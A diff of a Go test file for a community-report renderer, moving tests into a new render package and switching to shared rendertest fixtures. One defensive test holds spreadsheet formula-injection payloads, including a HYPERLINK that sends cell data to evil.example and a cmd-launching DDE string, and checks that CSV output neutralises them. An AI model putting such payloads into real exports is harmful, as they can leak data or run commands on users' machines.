@@ -1,4 +1,4 @@
-package report
+package render
 
 import (
 	"bytes"
@@ -9,9 +9,12 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+
+	"praxis/bot/report"
+	"praxis/bot/report/render/rendertest"
 )
 
-func render(t *testing.T, f Format, rs ...*Report) string {
+func render(t *testing.T, f Format, rs ...*report.Report) string {
 	t.Helper()
 	var b bytes.Buffer
 	if err := Render(&b, rs, f); err != nil {
@@ -44,7 +47,7 @@ func TestParseFormat(t *testing.T) {
 		t.Fatal("Render accepted an unknown format")
 	}
 	for _, f := range Formats {
-		if err := Render(&bytes.Buffer{}, []*Report{sampleReport("en"), nil}, f); err == nil {
+		if err := Render(&bytes.Buffer{}, []*report.Report{rendertest.Sample("en"), nil}, f); err == nil {
 			t.Errorf("%s: a nil report rendered", f)
 		}
 	}
@@ -57,7 +60,7 @@ func TestParseFormat(t *testing.T) {
 }
 
 func TestTextEnglish(t *testing.T) {
-	out := render(t, Text, sampleReport("en"))
+	out := render(t, Text, rendertest.Sample("en"))
 	for _, want := range []string{
 		"Platform guild — 2026-W47",
 		"Nov 16, 2026 to Nov 22, 2026 (Europe/Paris)", // the period's last day, not its exclusive end
@@ -92,7 +95,7 @@ func TestTextEnglish(t *testing.T) {
 }
 
 func TestTextFrench(t *testing.T) {
-	out := render(t, Text, sampleReport("fr"))
+	out := render(t, Text, rendertest.Sample("fr"))
 	for _, want := range []string{
 		"Guilde sécurité — 2026-W47",
 		"du 16/11/2026 au 22/11/2026 (Europe/Paris)",
@@ -118,8 +121,8 @@ func TestTextFrench(t *testing.T) {
 }
 
 func TestTextEmptyAndNotSignificant(t *testing.T) {
-	r := emptyReport("en")
-	r.Nudges = NudgeEffect{
+	r := rendertest.Empty("en")
+	r.Nudges = report.NudgeEffect{
 		Sent:               3,
 		Nudged:             3,
 		NudgedContributed:  2,
@@ -158,7 +161,7 @@ func checkColumns(t *testing.T, out string) {
 }
 
 func TestTextLongNamesFit(t *testing.T) {
-	r := sampleReport("en")
+	r := rendertest.Sample("en")
 	long := strings.Repeat("Très long nom 名前 ", 30)
 	r.Community = long
 	r.Questions.Open[0].Text = long
@@ -166,8 +169,8 @@ func TestTextLongNamesFit(t *testing.T) {
 	r.Questions.Open[0].ChannelName = long
 	r.TopHelpers[0].Person.Name = long
 	r.Risk.Bridges[0].Communities = []string{long, long}
-	r.Members.Core = append(r.Members.Core, Person{Name: long})
-	out := render(t, Text, r, sampleReport("fr"))
+	r.Members.Core = append(r.Members.Core, report.Person{Name: long})
+	out := render(t, Text, r, rendertest.Sample("fr"))
 	checkColumns(t, out)
 	if !strings.Contains(out, "…") {
 		t.Error("long texts were not shortened")
@@ -178,10 +181,10 @@ func TestTextLongNamesFit(t *testing.T) {
 }
 
 func TestMarkdown(t *testing.T) {
-	r := sampleReport("en")
+	r := rendertest.Sample("en")
 	r.Questions.Open[1].Text = "Why does *this* | break [tables](x) <b>?"
 	r.TopHelpers[0].Person.Name = "# not_a_heading"
-	out := render(t, Markdown, r, sampleReport("fr"))
+	out := render(t, Markdown, r, rendertest.Sample("fr"))
 	for _, want := range []string{
 		"## Platform guild — 2026-W47",
 		"| Figure | Value | Previous | Week over week |\n|---|---:|---:|---|\n",
@@ -201,7 +204,7 @@ func TestMarkdown(t *testing.T) {
 }
 
 func TestCSV(t *testing.T) {
-	en, fr := sampleReport("en"), sampleReport("fr")
+	en, fr := rendertest.Sample("en"), rendertest.Sample("fr")
 	fr.Community = `Guilde "sécurité", Lyon`
 	out := render(t, CSV, en, fr)
 	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
@@ -221,16 +224,16 @@ func TestCSV(t *testing.T) {
 		got[k] = row
 	}
 	for k, want := range map[key][]string{
-		{"Platform guild", "2026-W47", FigActiveMembers}:                  {"42", "39", "3", ""},
-		{"Platform guild", "2026-W47", FigAnsweredPercent}:                {"78.5", "70", "8.5", "percent"},
-		{"Platform guild", "2026-W47", FigMedianResponse}:                 {"3.5", "", "", "hours"},
+		{"Platform guild", "2026-W47", report.FigActiveMembers}:           {"42", "39", "3", ""},
+		{"Platform guild", "2026-W47", report.FigAnsweredPercent}:         {"78.5", "70", "8.5", "percent"},
+		{"Platform guild", "2026-W47", report.FigMedianResponse}:          {"3.5", "", "", "hours"},
 		{"Platform guild", "2026-W47", "questions.open"}:                  {"2", "", "", ""},
 		{"Platform guild", "2026-W47", "members.level.core"}:              {"7", "", "", ""},
 		{"Platform guild", "2026-W47", "nudges.lift_points"}:              {"21.3", "", "", "points"},
 		{"Platform guild", "2026-W47", "marks.cooperation"}:               {"2.4", "2.1", "0.2999999999999998", ""},
 		{"Platform guild", "2026-W38", "trend.median_first_answer_hours"}: {"", "", "", "hours"},
 		{"Platform guild", "2026-W47", "trend.active_members"}:            {"42", "", "", ""},
-		{`Guilde "sécurité", Lyon`, "2026-W47", FigMessages}:              {"12345", "12000", "345", ""},
+		{`Guilde "sécurité", Lyon`, "2026-W47", report.FigMessages}:       {"12345", "12000", "345", ""},
 	} {
 		row, ok := got[k]
 		if !ok {
@@ -241,7 +244,7 @@ func TestCSV(t *testing.T) {
 			t.Errorf("%v (-want +got):\n%s", k, diff)
 		}
 	}
-	row := got[key{"Platform guild", "2026-W47", FigActiveMembers}]
+	row := got[key{"Platform guild", "2026-W47", report.FigActiveMembers}]
 	if row[2] != "2026-11-16T00:00:00+01:00" || row[3] != "2026-11-23T00:00:00+01:00" {
 		t.Errorf("period bounds %q %q, want RFC 3339 in the community's zone", row[2], row[3])
 	}
@@ -257,9 +260,9 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	formulas := []string{`=HYPERLINK("https://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3",
 		"@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
 	for _, name := range formulas {
-		r := sampleReport("en")
+		r := rendertest.Sample("en")
 		r.Community, r.Period.Label = name, name
-		r.Headline = append(r.Headline, Figure{Key: "-" + name, Value: 1, Previous: 4, Unit: "@unit"})
+		r.Headline = append(r.Headline, report.Figure{Key: "-" + name, Value: 1, Previous: 4, Unit: "@unit"})
 		rows, err := csv.NewReader(strings.NewReader(render(t, CSV, r))).ReadAll()
 		if err != nil {
 			t.Fatal(err)
@@ -288,12 +291,12 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 }
 
 func TestJSONRoundTrip(t *testing.T) {
-	in := []*Report{sampleReport("en"), sampleReport("fr"), emptyReport("en")}
+	in := []*report.Report{rendertest.Sample("en"), rendertest.Sample("fr"), rendertest.Empty("en")}
 	out := render(t, JSON, in...)
 	if !strings.HasPrefix(out, "[\n  {\n    \"community\": \"Platform guild\"") {
 		t.Errorf("not an indented array: %.60q", out)
 	}
-	var back []*Report
+	var back []*report.Report
 	if err := json.Unmarshal([]byte(out), &back); err != nil {
 		t.Fatal(err)
 	}
@@ -307,7 +310,7 @@ func TestJSONRoundTrip(t *testing.T) {
 }
 
 func TestSummary(t *testing.T) {
-	en := Summary(sampleReport("en"))
+	en := Summary(rendertest.Sample("en"))
 	for _, want := range []string{
 		"Praxis report for Platform guild, 2026-W47\n",
 		"Active members 42 (▲ +3)",
@@ -322,12 +325,12 @@ func TestSummary(t *testing.T) {
 	if n := strings.Count(en, "\n"); n < 3 || n > 6 {
 		t.Errorf("summary of %d lines, want a few:\n%s", n, en)
 	}
-	fr := Summary(sampleReport("fr"))
+	fr := Summary(rendertest.Sample("fr"))
 	if !strings.Contains(fr, "Membres actifs 42 (▲ +3)") ||
 		!strings.Contains(fr, "2 questions en attente, la plus ancienne depuis 4 j.") {
 		t.Errorf("French summary:\n%s", fr)
 	}
-	if got := Summary(emptyReport("fr")); !strings.Contains(got, "Aucune question en attente.") {
+	if got := Summary(rendertest.Empty("fr")); !strings.Contains(got, "Aucune question en attente.") {
 		t.Errorf("got %q", got)
 	}
 }
@@ -346,10 +349,10 @@ func TestNumbers(t *testing.T) {
 			t.Errorf("%s num(%v) = %q, want %q", c.p.lang, c.v, got, c.want)
 		}
 	}
-	if got := en.change(Figure{Value: 3, Previous: 3.5, Unit: "hours"}); got != "▼ −0.5 h" {
+	if got := en.change(report.Figure{Value: 3, Previous: 3.5, Unit: "hours"}); got != "▼ −0.5 h" {
 		t.Errorf("got %q", got)
 	}
-	if got := en.change(Figure{Value: 3, Missing: true}); got != "—" {
+	if got := en.change(report.Figure{Value: 3, Missing: true}); got != "—" {
 		t.Errorf("got %q", got)
 	}
 	if got := en.age(47); got != "47 h" {
